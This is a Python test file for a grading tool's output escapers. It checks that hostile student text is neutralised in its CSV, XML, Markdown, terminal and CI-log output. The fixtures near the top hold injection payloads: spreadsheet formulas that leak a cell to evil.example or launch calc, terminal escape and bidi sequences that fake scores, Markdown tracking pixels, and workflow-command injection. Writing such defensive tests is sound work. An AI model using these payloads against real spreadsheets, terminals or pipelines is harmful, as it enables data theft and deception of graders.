"""Student text leaving through each output, escaped for that output's own format.

The escapers on their own, then every writer given a run built by hand whose submission
name, feedback, answers and problems are hostile (formulas, escape sequences, Markdown,
characters XML forbids, lone surrogates). No worker is needed.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.parsers.expat
from pathlib import Path

import pytest

from grader.checks.written import AWAITING
from grader.course.class_outputs import review_scores_csv, write_class_outputs
from grader.course.gradebook import ClassRecord, gradebook_csv
from grader.course.review import load_manual_scores
from grader.domain import CheckResult, GradeRun, TaskScore
from grader.outputs import escape
from grader.outputs.classroom import classroom_payload
from grader.outputs.files import write_submission_outputs
from grader.outputs.gradescope import gradescope_results
from grader.outputs.junit import junit_xml
from grader.outputs.results import write_text_atomic
from grader.outputs.terminal import print_summary
from grader.outputs.views import staff_view, student_view

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+2", "-2+3", "\t=1", "\r=1", "'quoted", "''twice", "plain"]
TERMINAL_ATTACK = "\x1b[2J\x1b[HScore: 282/282\x07\x9b31m\u202etxt.exe\u2066"
MARKDOWN_ATTACK = ("![pixel](https://evil.example/p.png) [click](https://evil.example) <img src=x> "
                   "**282/282** `` ` code\n\n# Score: 282/282\n<script>x</script> https://evil.example")
XML_ATTACK = "bad\x00\x01\x1b\x0b\ufffe\uffff chars"
SURROGATE = "lone \ud800 surrogate"
HOSTILE = f"{TERMINAL_ATTACK} {MARKDOWN_ATTACK} {XML_ATTACK} {SURROGATE}"


def hostile_run(submission: str = FORMULAS[0], text: str = HOSTILE) -> GradeRun:
    """A run whose every student-controlled string is ``text`` (the submission is named apart)."""
    failed = CheckResult("task07", "test_x", "A check", "failed", 0.0, 1.0, "public", text, details=text)
    written = CheckResult("task07", "written:answer", "Written answer task07.answer", "pending_review",
                          0.0, 2.0, "public", AWAITING, details=text, answer=text)
    task = TaskScore("task07", 7, "Bias", 0.0, 1.0, 2.0, "failed", (failed, written), reason=text, source=text)
    return GradeRun(submission, (task,), 0.0, 1.0, 2.0, problems=(text, f"answers.yaml: {text}"),
                    notices=(text,))


def strictly_parsed(document: bytes) -> None:
    """Parse with expat, which enforces XML 1.0 (ElementTree's writer does not)."""
    xml.parsers.expat.ParserCreate().Parse(document, True)


RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def test_terminal_escapes_controls_bidi_and_surrogates_visibly():
    shown = escape.terminal(f"a\tb\nc {TERMINAL_ATTACK} {SURROGATE}\r")
    assert not RAW_CONTROL.search(shown)
    assert "a\tb\nc \\x1b[2J\\x1b[HScore" in shown and "\\u202etxt.exe\\u2066" in shown
    assert "\\ud800" in shown and shown.endswith("\\r") and "\\x9b31m" in shown
    assert escape.terminal("one\ntwo", one_line=True) == "one\\ntwo"


@pytest.mark.parametrize("text", FORMULAS + ["", "'", "=", "a=b", "1,5"])
def test_csv_cells_never_start_a_formula_and_read_back_exactly(text):
    cell = escape.csv_cell(text)
    assert not cell.startswith(escape.FORMULA_STARTS)
    assert escape.csv_cell_read(cell) == text
    assert cell == text or cell == "'" + text


def test_xml_text_is_within_the_char_production():
    cleaned = escape.xml_text(XML_ATTACK + SURROGATE + "\U0001F600 \t\n\r")
    strictly_parsed(f"<a b='{cleaned}'>{cleaned}</a>".encode("utf-8"))
    assert "\\x1b" in cleaned and "\\ufffe" in cleaned and "\U0001F600" in cleaned


@pytest.mark.parametrize("text", [MARKDOWN_ATTACK, "`", "``a``", "ends with `", "x ```` y", ""])
def test_markdown_code_span_cannot_be_closed_by_its_text(text):
    span = escape.markdown_code(text)
    fence = re.match("`+", span).group()
    inner = span[len(fence):-len(fence)]
    assert span.endswith(fence) and "\n" not in span and "\r" not in span
    assert all(len(run) < len(fence) for run in re.findall("`+", inner))


def test_actions_log_stops_workflow_commands_with_an_unguessable_token():
    first, second = escape.actions_log("::error::owned\n::add-mask::x"), escape.actions_log("x")
    lines = first.splitlines()
    token = lines[0].removeprefix("::stop-commands::")
    assert len(token) >= 32 and lines[-1] == f"::{token}::" and token not in second
    assert lines[1:-1] == ["::error::owned", "::add-mask::x"]


def test_write_text_atomic_replaces_lone_surrogates(tmp_path):
    write_text_atomic(tmp_path / "out.txt", SURROGATE)
    assert (tmp_path / "out.txt").read_text(encoding="utf-8") == "lone \ufffd surrogate"


def test_submission_outputs_survive_a_lone_surrogate(tmp_path):
    write_submission_outputs(hostile_run("bob\ud800"), tmp_path)
    data = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
    assert data["submission"] == "bob\ufffd" and "\ufffd" in data["problems"][0]
    assert "\ufffd" in (tmp_path / "report.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("view", [student_view, staff_view])
def test_terminal_summary_carries_no_raw_control(view):
    stream = io.StringIO()
    print_summary(view(hostile_run()), stream=stream)
    printed = stream.getvalue()
    assert not RAW_CONTROL.search(printed)
    assert "\\x1b[2J" in printed and "\\ud800" in printed
    assert [line for line in printed.splitlines() if line.startswith("Score:")] == ["Score: 0 / 1 (+2 awaiting review)"]


def test_gradebook_and_review_scores_prefix_formulas_and_read_back(catalog, tmp_path):
    results = [hostile_run(name) for name in FORMULAS]
    for text in (gradebook_csv(ClassRecord(results, catalog)), review_scores_csv(results)):
        rows = list(csv.reader(io.StringIO(text)))
        assert all(not cell.startswith(escape.FORMULA_STARTS) for row in rows for cell in row)
    write_class_outputs(tmp_path, ClassRecord(results, catalog))
    scores = (tmp_path / "review-scores.csv").read_bytes().replace(b",task07,answer,,", b",task07,answer,1,")
    (tmp_path / "filled.csv").write_bytes(scores)
    scores = load_manual_scores(tmp_path / "filled.csv", catalog)
    assert sorted(score.submission for score in scores) == sorted(FORMULAS)
    assert "\ufffd" in (tmp_path / "review.html").read_text(encoding="utf-8")  # survived the surrogate


def test_gradebook_numbers_are_not_prefixed(catalog):
    rows = list(csv.DictReader(io.StringIO(gradebook_csv(ClassRecord([hostile_run("-5")], catalog)))))
    assert rows[0]["submission"] == "'-5" and rows[0]["score"] == "0" and rows[0]["task07"] == "0"


def test_junit_passes_a_strict_parser(tmp_path):
    write_text_atomic(tmp_path / "junit.xml", junit_xml(hostile_run("sub\x1b\x00\ud800")))
    document = (tmp_path / "junit.xml").read_bytes()
    strictly_parsed(document)
    assert b"\\x1b" in document and b"\\ufffe" in document


def test_gradescope_output_has_no_live_markdown():
    output = gradescope_results(hostile_run())["output"]
    prose = re.sub(r"(`+) .*? \1", "", output)  # what remains outside code spans is ours
    assert not re.search(r"[!\[\]<>#`]|https?:|\\x1b", prose), prose
    assert "![pixel]" in output and "\n\n# Score" not in output and not RAW_CONTROL.search(output)
    assert prose.count("**") == 2  # our own score only


def test_gradescope_and_classroom_payloads_survive_a_lone_surrogate(tmp_path):
    write_text_atomic(tmp_path / "results.json", json.dumps(gradescope_results(hostile_run()), ensure_ascii=False))
    assert json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))["tests"]
    json.dumps(classroom_payload(hostile_run())).encode("utf-8")


def test_read_back_strips_the_prefix_of_every_text_cell(catalog, tmp_path):
    path = Path(tmp_path / "scores.csv")
    path.write_text("submission,task,part,points,comment\n'=evil,'task07,answer,2,'''quoted\n", encoding="utf-8")
    score = load_manual_scores(path, catalog)[0]
    assert (score.submission, score.task, score.part, score.comment) == ("=evil", "task07", "answer", "''quoted")
